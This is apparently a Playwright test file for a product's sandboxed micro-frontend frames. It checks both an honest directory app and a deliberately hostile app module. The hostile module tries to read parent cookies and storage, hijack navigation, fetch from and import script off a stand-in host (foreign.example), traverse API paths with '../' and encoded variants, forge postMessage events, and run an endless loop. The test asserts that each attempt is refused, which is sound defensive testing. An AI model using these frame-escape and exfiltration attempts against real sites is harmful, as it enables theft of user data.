// Third-party apps run in a frame without an origin: an honest one works as it does on the page, a hostile one gains nothing.

import assert from "node:assert/strict";
import { CHROMIUM, FLAGS } from "../../scripts/setup/browser.mjs";
import { account, chooseInUserMenu, expectAccessible } from "./support/browser.mjs";
import { JOURNEY, test, withProduct } from "./support/test.mjs";
import { waitUntil } from "./support/wait-until.mjs";

// As on desktop browsers: on small machines all frames of a page share one process.
test.use({ launchOptions: { executablePath: CHROMIUM, args: [...FLAGS, "--site-per-process"] } });

withProduct({
  config: {
    microFrontends: {
      directory: { url: "/apps/directory/index.js", title: "Directory", isolated: true },
      reports: { url: "/apps/hostile/index.js", title: "Hostile", isolated: true, stores: ["Documents"] },
    },
  },
});

const COMPANY = "Nordlicht Energie";
const inFrame = (page) => page.frameLocator(".app-frame");

test(
  "an app that the page would run runs in its frame: calls, address, language, look and height",
  JOURNEY,
  async ({ newVisitor }) => {
    const visitor = await newVisitor({ viewport: { width: 1440, height: 900 } });
    const tab = await visitor.inside(account("anna"), COMPANY, "/");
    await tab.goto("/directory");
    const frame = inFrame(tab);
    await frame.getByRole("heading", { name: "Anna Müller" }).waitFor();
    await frame.getByRole("searchbox", { name: "Nach Namen suchen" }).fill("björn");
    await tab.waitForURL("/directory?search=bj%C3%B6rn");
    await frame.getByRole("heading", { name: "Björn Strauß" }).waitFor();
    await waitUntil(() => frame.getByRole("heading", { name: "Anna Müller" }).count(), 0);
    await tab.reload();
    await waitUntil(() => frame.getByRole("searchbox").inputValue(), "björn");
    await tab.evaluate(() => document.documentElement.setAttribute("data-theme", "dark"));
    await waitUntil(() => frame.locator("html").getAttribute("data-theme"), "dark");
    const [outer, inner] = [tab.locator(".app-frame"), frame.locator("html")];
    await waitUntil(
      async () => (await outer.boundingBox()).height >= (await inner.evaluate((root) => root.offsetHeight)),
      true,
    );
    await expectAccessible(tab);
    await frame.locator("html[lang=de]").waitFor();
    await chooseInUserMenu(tab, "Sprache", "English");
    await frame.getByRole("searchbox", { name: "Search by name" }).waitFor();
    await frame.locator("html[lang=en]").waitFor();
    // The layout checks request the style sheets of the frame, which may not make requests.
    visitor.complaints = visitor.complaints.filter((complaint) => !complaint.includes("/apps/frame.css"));
    await visitor.end();
  },
);

/** A low app that opens modals of some lines and a last button. */
const opener = `
  export const contract = 1;
  export function mount(element, { modals }) {
    for (const lines of [10, 160]) {
      const open = document.createElement("button");
      open.textContent = lines + " lines";
      open.onclick = async () => {
        const { action } = await modals.open({
          title: "High",
          render(content, modal) {
            const add = (tag, textContent) => content.appendChild(Object.assign(document.createElement(tag), { textContent }));
            for (let line = 1; line <= lines; line += 1) add("p", "Line " + line);
            add("button", "Last").onclick = () => modal.close({ action: "last" });
          },
        });
        open.textContent += ": " + action;
      };
      element.append(open);
    }
  }
  export function unmount() {}
  export const router = { navigate() {} };`;

/** The app at `/reports` is this module. */
const serveApp = (visitor, body) =>
  visitor.context.route("**/apps/hostile/**", (route) =>
    route.fulfill({ contentType: "text/javascript", body, headers: { "access-control-allow-origin": "*" } }),
  );

test("a modal that is higher than its app can be used to its last button", JOURNEY, async ({ newVisitor }) => {
  const visitor = await newVisitor({ viewport: { width: 1440, height: 900 } });
  await serveApp(visitor, opener);
  const page = await visitor.inside(account("anna"), COMPANY, "/");
  await page.goto("/reports");
  const [outer, frame] = [page.locator(".app-frame"), inFrame(page)];
  const dialog = frame.getByRole("dialog", { name: "High" });
  const hidden = () => dialog.evaluate(({ scrollHeight, clientHeight }) => scrollHeight - clientHeight);
  await frame.getByRole("button", { name: "10 lines" }).click();
  // Where the screen has room for it, nothing of it scrolls.
  await waitUntil(hidden, 0);
  assert.ok((await outer.boundingBox()).height > 320);
  await dialog.getByRole("button", { name: "Last" }).click();
  await frame.getByRole("button", { name: "10 lines: last" }).waitFor();
  await waitUntil(async () => (await outer.boundingBox()).height, 320);
  await frame.getByRole("button", { name: "160 lines" }).click();
  await dialog.getByRole("button", { name: "Last" }).click();
  await frame.getByRole("button", { name: "160 lines: last" }).waitFor();
  await visitor.end();
});

/** Two rows, each with a button that removes it. */
const rows = `
  export const contract = 1;
  export function mount(element) {
    for (const name of ["first", "second"]) {
      const remove = document.createElement("button");
      remove.textContent = "Remove the " + name;
      remove.onclick = () => remove.remove();
      element.append(remove);
    }
  }
  export function unmount() {}
  export const router = { navigate() {} };`;

test("the keyboard stays among the rows of an app when one is removed", JOURNEY, async ({ newVisitor }) => {
  const visitor = await newVisitor({ viewport: { width: 1440, height: 900 } });
  await serveApp(visitor, rows);
  const page = await visitor.inside(account("anna"), COMPANY, "/");
  await page.goto("/reports");
  await inFrame(page).getByRole("button", { name: "Remove the first" }).press("Enter");
  await inFrame(page).getByRole("button", { name: "Remove the second" }).and(inFrame(page).locator(":focus")).waitFor();
  await visitor.end();
});

/** Attempts of a malicious app; each reports `refused` or what it obtained. */
const THEFT = `
  const within = (act) => { try { const got = act(); return got === undefined ? "refused" : "got " + got; } catch { return "refused"; } };
  const later = (act) => Promise.race([Promise.resolve().then(act).then(() => "got", () => "refused"), new Promise((end) => setTimeout(end, 20000, "silent"))]);
  const loads = (made, name, address) => later(() => new Promise((resolve, reject) => {
    Object.assign(made, { onload: resolve, onerror: reject, [name]: address });
    document.body.append(made);
  }));
  const ours = context.navigation.base && "/api/user/me";
  const tries = {
    parent: within(() => parent.document.title),
    top: within(() => top.location.href),
    sibling: within(() => parent.frames.length && parent.frames[0].parent.document.cookie),
    cookie: within(() => document.cookie),
    local: within(() => localStorage.length),
    session: within(() => sessionStorage.length),
    navigate: within(() => { top.location = "https://foreign.example/"; }),
    popup: within(() => open("https://foreign.example/") ?? undefined),
    database: await later(() => new Promise((resolve, reject) => { const request = indexedDB.open("x"); request.onsuccess = resolve; request.onerror = reject; })),
    caches: await later(() => caches.keys()),
    own: await later(() => fetch(ours)),
    foreign: await later(() => fetch("https://foreign.example/a")),
    connection: within(() => new (window.RTCPeerConnection ?? window.webkitRTCPeerConnection)({ iceServers: [{ urls: "stun:foreign.example" }] })),
    script: await later(() => import("https://foreign.example/b.js")),
    picture: await loads(new Image(), "src", "https://foreign.example/c.png"),
    elsewhere: await later(() => context.api("/../user/me")),
    encoded: await later(() => context.api("/..%2Fuser/me")),
    store: await later(() => context.stores.get("User", "me")),
  };
  // Messages of another window, repeated messages, and unknown messages.
  for (const message of [{ kind: "mounted" }, { kind: "height", height: 19000 }, { kind: "toast", tone: "info", title: "Forged" }, { kind: "bot-check", token: "x" }]) {
    parent.postMessage(message, "*");
    parent.postMessage(message, "*");
  }
  title.textContent = Object.entries(tries).filter(([, outcome]) => outcome !== "refused").map(([name, outcome]) => name + ": " + outcome).join(", ") || "Nothing was got";`;

const hostile = `
  export const contract = 1;
  export async function mount(element, context) {
    const title = document.createElement("h1");
    element.append(title);
    const path = context.navigation.path();
    if (path === "/") context.navigation.navigate("/x(modal:role/create)");
    ${THEFT}
    if (path === "/loop") setTimeout(() => { for (;;); }, 100);
    if (path === "/leave") setTimeout(() => { location.href = "https://foreign.example/d"; }, 100);
  }
  export function unmount() {}
  export const router = { navigate() {} };`;

test("a hostile one reads nothing, reaches nobody, forges nothing, and an endless loop in it stops nobody else", async ({
  newVisitor,
}) => {
  const visitor = await newVisitor({ viewport: { width: 1440, height: 900 } });
  const reached = [];
  await visitor.context.route("https://foreign.example/**", (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  await serveApp(visitor, hostile);
  const page = await visitor.inside(account("anna"), COMPANY, "/");
  await page.goto("/reports");
  await inFrame(page).getByRole("heading", { name: "Nothing was got" }).waitFor();
  await waitUntil(() => page.getByText("Forged").count(), 0);
  assert.deepEqual([new URL(page.url()).pathname, await page.getByRole("dialog").count()], ["/reports", 0]);
  assert.ok((await page.locator(".app-frame").boundingBox()).height < 5_000);
  assert.deepEqual([reached, visitor.context.pages().length], [[], 1]);

  await page.goto("/reports/leave");
  await page.getByRole("heading", { name: "Berichte lässt sich gerade nicht anzeigen" }).waitFor();
  assert.deepEqual(reached, []);

  await page.goto("/reports/loop");
  await page.waitForFunction(() => document.querySelector(".app-container:not([hidden]) .app-frame"));
  // Whether the loop runs yet or not, the shell opens menus and navigates.
  await page.getByRole("button", { name: /^Konto von/ }).click();
  await page.getByRole("menuitem", { name: "Mein Konto" }).click();
  await page.waitForURL("/account");
  await page.getByRole("heading", { level: 1 }).waitFor();
  await waitUntil(() => page.locator(".app-frame").count(), 0);
  // What the browser blocked, and the failure of the app.
  visitor.complaints = [];
  await visitor.end();
});
